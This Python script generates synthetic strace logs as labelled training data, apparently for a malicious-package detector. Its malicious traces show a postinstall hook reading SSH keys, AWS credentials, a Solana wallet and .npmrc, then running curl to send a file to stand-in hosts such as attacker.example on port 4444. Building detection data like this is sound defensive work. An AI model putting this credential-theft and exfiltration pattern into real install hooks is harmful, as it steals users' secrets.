#!/usr/bin/env python3
"""Regenerates the labelled training traces: 50 benign installs under
benign/ and 50 credential-stealing installs under malicious/."""
import os
import random
import shutil
import struct

HERE = os.path.dirname(os.path.abspath(__file__))


def dns_query(qid, name):
    out = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0" + struct.pack(">HH", 1, 1)


def lit(data):
    out = ['"']
    for i, b in enumerate(data):
        nxt = data[i + 1] if i + 1 < len(data) else None
        c = chr(b)
        if c in '"\\':
            out.append("\\" + c)
        elif 0x20 <= b < 0x7F:
            out.append(c)
        elif nxt is not None and 0x30 <= nxt <= 0x37:
            out.append("\\%03o" % b)
        else:
            out.append("\\%o" % b)
    out.append('"')
    return "".join(out)


def dns(pid, fd, name, resolver):
    q = dns_query(random.randrange(65536), name)
    return [
        "%d  socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = %d" % (pid, fd),
        '%d  sendto(%d, %s, %d, MSG_NOSIGNAL, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("%s")}, 16) = %d'
        % (pid, fd, lit(q), len(q), resolver, len(q)),
        "%d  close(%d) = 0" % (pid, fd),
    ]


def connect(pid, fd, ip, port):
    return [
        "%d  socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_TCP) = %d" % (pid, fd),
        '%d  connect(%d, {sa_family=AF_INET, sin_port=htons(%d), sin_addr=inet_addr("%s")}, 16) = -1 EINPROGRESS (Operation now in progress)'
        % (pid, fd, port, ip),
    ]


WORDS = ["requests", "yaml", "colorama", "tqdm", "attrs", "six", "idna", "click", "rich", "toml", "jinja", "lxml"]


def benign(i):
    pid = 2000 + i
    pkg = "%s%d" % (random.choice(WORDS), i)
    if random.random() < 0.5:
        site = "/usr/lib/python3/site-packages/" + pkg
        lines = ['%d  execve("/usr/bin/python3", ["python3", "-m", "pip", "install", "%s"], 0x7ffd /* 20 vars */) = 0' % (pid, pkg)]
        lines += dns(pid, 3, random.choice(["pypi.org", "files.pythonhosted.org"]), "127.0.0.53")
        lines += connect(pid, 4, "151.101.%d.%d" % (random.randrange(256), random.randrange(1, 255)), 443)
    else:
        site = "/work/node_modules/" + pkg
        lines = ['%d  execve("/usr/bin/npm", ["npm", "install", "%s"], 0x7ffd /* 20 vars */) = 0' % (pid, pkg)]
        lines += dns(pid, 3, "registry.npmjs.org", "127.0.0.53")
        lines += connect(pid, 4, "104.16.%d.%d" % (random.randrange(256), random.randrange(1, 255)), 443)
    for f in range(random.randint(2, 8)):
        lines.append('%d  openat(AT_FDCWD, "%s/mod%d.py", O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = 5' % (pid, site, f))
        lines.append("%d  close(5) = 0" % pid)
    lines += ["%d  brk(NULL) = 0x5581e000" % pid] * random.randint(0, 15)
    lines.append("%d  exit_group(0) = ?" % pid)
    lines.append("%d  +++ exited with 0 +++" % pid)
    return lines


SECRETS = ["/root/.ssh/id_rsa", "/etc/passwd", "/root/.aws/credentials", "/root/.config/solana/id.json", "/root/.npmrc"]


def malicious(i):
    pid = 3000 + i
    host = "%s.%s" % (random.choice(["sync", "cdn", "update", "telemetry"]), random.choice(["attacker.example", "evil.test"]))
    lines = ['%d  execve("/bin/sh", ["sh", "-c", "node postinstall.js"], 0x7ffd /* 20 vars */) = 0' % pid]
    for s in random.sample(SECRETS, random.randint(1, 3)):
        lines.append('%d  openat(AT_FDCWD, "%s", O_RDONLY|O_CLOEXEC) = 3' % (pid, s))
        lines.append("%d  close(3) = 0" % pid)
    lines += dns(pid, 4, host, "8.8.8.8")
    ip = "198.51.100.%d" % random.randrange(1, 255)
    lines.append(
        '%d  execve("/usr/bin/curl", ["curl", "-s", "--data-binary", "@/tmp/.x%d", "http://%s:4444/"], 0x7ffd /* 20 vars */) = 0'
        % (pid, i, host)
    )
    lines += connect(pid, 5, ip, random.choice([4444, 1337, 8080]))
    lines += ["%d  brk(NULL) = 0x5581e000" % pid] * random.randint(0, 15)
    lines.append("%d  exit_group(0) = ?" % pid)
    lines.append("%d  +++ exited with 0 +++" % pid)
    return lines


def main():
    random.seed(20241)
    for label, make in (("benign", benign), ("malicious", malicious)):
        out = os.path.join(HERE, label)
        shutil.rmtree(out, ignore_errors=True)
        os.makedirs(out)
        for i in range(50):
            with open(os.path.join(out, "%s-%02d.strace" % (label, i)), "w") as f:
                f.write("\n".join(make(i)) + "\n")


if __name__ == "__main__":
    main()
